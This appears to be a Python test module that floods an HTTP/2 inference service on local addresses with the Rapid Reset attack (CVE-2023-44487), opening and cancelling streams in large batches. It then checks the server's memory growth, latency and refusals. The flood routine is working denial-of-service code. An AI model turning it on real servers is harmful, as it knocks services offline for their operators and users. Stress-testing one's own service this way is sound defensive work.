"""Streams that are opened and reset at once, as fast as possible (CVE-2023-44487); at least so many and at
least for so long."""

import itertools
import struct
import threading
import time

import http2

FLAGS = []
SHORT = {"resets": 20_000, "attackers": 2, "seconds": 0}
FULL = {"resets": 300_000, "attackers": 2, "seconds": 15}
AT_ONCE = 200


def opened_and_reset(stream):
    block = http2.header_block("/recurve.v1.Inference/Generate")
    cancel = struct.pack(">I", http2.CANCEL)
    return b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS, stream + 2 * i, block)
                    + http2.frame(http2.RST_STREAM, 0, stream + 2 * i, cancel)
                    for i in range(AT_ONCE)), 2 * AT_ONCE


def attack(address, resets, attackers, seconds):
    connections, sent, end = [], [], time.monotonic() + seconds

    def parts():
        for number in itertools.count():
            if number * AT_ONCE >= resets / attackers and time.monotonic() > end:
                return
            sent.append(AT_ONCE)
            yield opened_and_reset

    def one(number):
        connections.append(http2.flood(address, f"127.0.0.{2 + number}", parts()))

    threads = [threading.Thread(target=one, args=(number,)) for number in range(attackers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return f"{sum(sent)} streams were opened and reset on {sum(connections)} connections"


def check(result, size):
    if result.grown() > 100e6:
        yield f"resident memory grew by {result.grown() / 1e6:.0f} MB, wanted under 100"
    yield from result.too_slow()
    yield from result.refusals()
